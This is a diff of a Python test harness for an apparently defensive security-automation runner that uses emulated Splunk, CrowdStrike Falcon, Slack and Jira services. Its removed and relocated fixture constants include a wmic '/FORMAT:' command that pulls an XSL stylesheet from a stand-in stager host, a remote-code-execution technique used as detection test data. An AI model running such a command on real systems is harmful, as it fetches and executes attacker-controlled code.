@@ -1,8 +1,8 @@
-"""The real runner over the real stand-ins, in this process, on a clock that only a test moves.
+r"""The real runner over the real stand-ins, in this process, on a clock that only a test moves.
 
     with running_world(tmp_path, {"approvals": {"quorum": 2}}) as world:
         world.arm()
-        world.hit(host="WORKSTATION5", user=r"WORKGROUP\\wardog")
+        world.hit(host="WORKSTATION5", user=r"WORKGROUP\wardog")
         world.tick()
         world.yes(world.question())
         world.tick()
@@ -14,18 +14,20 @@ It is wired by the same constructors as `runner/cli.py` and `runner/demo.py`; no
 from __future__ import annotations
 
 import json
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from contextlib import contextmanager
+from fnmatch import fnmatchcase
+from itertools import count
 from pathlib import Path
 from typing import Any
 
 from msgspec import Struct
+from requests import PreparedRequest, Response
+from requests.adapters import HTTPAdapter
 
 from connectors.emulators.emulator import Emulator
 from connectors.emulators.falcon import Hook
 from connectors.emulators.fleet import Emulators, running_emulators
-from connectors.emulators.jira_requests import PROJECT
-from connectors.emulators.slack_messages import TEAM
 from connectors.emulators.slack_workspace import CHANNEL
 from connectors.http import Runtime
 from connectors.model import JsonObject, Row
@@ -36,87 +38,25 @@ from runner.journal.records import (
     Approval,
     ApprovalState,
     Case,
-    ChoiceRole,
     LedgerRow,
     Run,
     StepResult,
 )
 from runner.resolve import Said
-from runner.service import Service, Tick
 from runner.result import Result
+from runner.service import Service, Tick
 from tests.fake_clock import FakeClock
-
-RESPONDER_A, RESPONDER_B = "U0RESPONDA", "U0RESPONDB"
-YES, NO = "white_check_mark", "x"
-HOST = "WORKSTATION5"
-USER = r"WORKGROUP\wardog"
-URL = "https://stager.example.test/a.xsl"
-MALICIOUS = f'wmic process list /FORMAT:"{URL}"'
-SUSPICIOUS = r"wmic process list /FORMAT:C:\Users\Public\a.xsl"
-BENIGN = "wmic os get Caption /format:csv"
-SEARCH = "wmic_format_hits"
-PROTECTED = "host DC-*\n"
-
-
-def settings(emulators: Emulators) -> dict[str, Any]:
-    """A whole configuration: mode act, two approvers, every product a stand-in."""
-    urls = emulators.base_urls()
-
-    def product(name: str, *secrets: str, **more: Any) -> dict[str, Any]:
-        credentials = {secret: {"file": f"secrets/{name}.{secret}"} for secret in secrets}
-        return {
-            "type": name,
-            "base_url": urls[name],
-            "credentials": credentials,
-            "settle_s": 1,
-            **more,
-        }
-
-    return {
-        "version": 1,
-        "mode": "act",
-        "emulated": True,
-        "state_dir": "journal",
-        "people": {"responder-a": {"slack": RESPONDER_A}, "responder-b": {"slack": RESPONDER_B}},
-        "connectors": {
-            "splunk": product("splunk", "token"),
-            "falcon": product("falcon", "client_id", "client_secret", tenant="demo"),
-            "slack": product("slack", "token", options={"channel": CHANNEL, "team": TEAM}),
-            "jira": product("jira", "email", "api_token", options={"project": PROJECT}),
-        },
-        "roles": {"siem": "splunk", "edr": "falcon", "chat": "slack", "tickets": "jira"},
-        "searches": {
-            SEARCH: {
-                "saved_search": "WMIC format hits",
-                "playbook": "wmic-format",
-                "settle_s": 5,
-                "canary": "Stockade canary",
-            }
-        },
-        "approvals": {
-            "approvers": ["responder-a", "responder-b"],
-            "expires_s": 1800,
-            "mention": ["responder-a"],
-        },
-        "guards": {
-            "protected_file": "protected.txt",
-            "allowed_effects": ["investigate", "notify", "document", "contain", "release"],
-        },
-        "hunts": {"index": "main"},
-    }
-
-
-def merged(base: dict[str, Any], changes: dict[str, Any]) -> dict[str, Any]:
-    """`base` with `changes` laid over it, mapping by mapping; None takes a key away."""
-    found = dict(base)
-    for key, value in changes.items():
-        if value is None:
-            found.pop(key, None)
-        elif isinstance(value, dict) and isinstance(found.get(key), dict):
-            found[key] = merged(found[key], value)
-        else:
-            found[key] = value
-    return found
+from tests.world_settings import (
+    HOST,
+    MALICIOUS,
+    NO,
+    PROTECTED,
+    RESPONDER_A,
+    USER,
+    YES,
+    merged,
+    settings,
+)
 
 
 class Entry(Struct, frozen=True, kw_only=True):
@@ -128,6 +68,22 @@ class Entry(Struct, frozen=True, kw_only=True):
     refs: dict[str, str]
     payload: Any
     sha256: str
+
+
+class _Watched(HTTPAdapter):
+    """The real transport, which notes each request, and lets a test act between two of them."""
+
+    def __init__(self, world: World) -> None:
+        self._world = world
+        super().__init__(max_retries=0)
+
+    def send(self, request: PreparedRequest, *args: Any, **named: Any) -> Response:
+        line = f"{request.method} {request.path_url}"
+        for rule in [one for one in self._world.before if fnmatchcase(line, one[0])]:
+            self._world.before.remove(rule)
+            rule[1]()
+        self._world.sent.append(line)
+        return super().send(request, *args, **named)
 
 
 class World:
@@ -147,6 +103,11 @@ class World:
         self.splunk, self.falcon = emulators.splunk, emulators.falcon
         self.slack, self.jira = emulators.slack, emulators.jira
         self.changes = changes
+        self.sent: list[str] = []
+        """Every request of the runner in order, over all products: `METHOD path?query`."""
+        self.before: list[tuple[str, Callable[[], None]]] = []
+        """Shell patterns of `sent`, and what happens, once, just before the first such request."""
+        self._numbers = count(1)
         self._write_secrets()
         self.protect(PROTECTED)
         for name, text in playbooks.items():
@@ -164,8 +125,13 @@ class World:
         """Start as a new process does."""
         self.journal = Journal(self.config.state_dir, self.clock, actor="test")
         self.service = Service(
-            self.config, self.journal, Runtime(clock=self.clock, emulated=self.config.emulated)
+            self.config,
+            self.journal,
+            Runtime(clock=self.clock, emulated=self.config.emulated, transport=self._transport),
         )
+
+    def _transport(self) -> HTTPAdapter:
+        return _Watched(self)
 
     def restart(self, changes: dict[str, Any] | None = None) -> None:
         """End the process and start it again, with a changed configuration if need be."""
@@ -227,7 +193,7 @@ class World:
         **more: Any,
     ) -> Row:
         """A wmic start that the saved search finds in the next tick."""
-        number = len(self.splunk.requests)
+        number = next(self._numbers)
         raw = {
             "Channel": "Microsoft-Windows-Sysmon/Operational",
             "EventID": 1,
@@ -427,8 +393,3 @@ def running_world(
             yield world
         finally:
             world.journal.close()
-
-
-def role_emoji(approval: Approval, role: ChoiceRole) -> str:
-    """The first emoji of a card with this meaning."""
-    return next(asked.choice.emoji for asked in approval.choices if asked.role is role)
